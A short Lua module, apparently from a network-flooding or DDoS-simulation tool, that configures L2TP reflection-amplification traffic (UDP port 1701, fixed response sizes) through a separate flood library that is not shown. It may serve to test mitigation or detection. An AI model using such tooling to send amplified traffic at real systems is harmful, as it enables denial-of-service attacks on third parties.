-- Answers of l2tp reflectors that the target never asked.
local here = debug.getinfo(1, "S").source:match("^@(.*/)") or "./"
local flood = dofile(here .. "lib/flood.lua")

flood.amplification({ name = "l2tp", port = 1701, size = { 346, 1046 } })
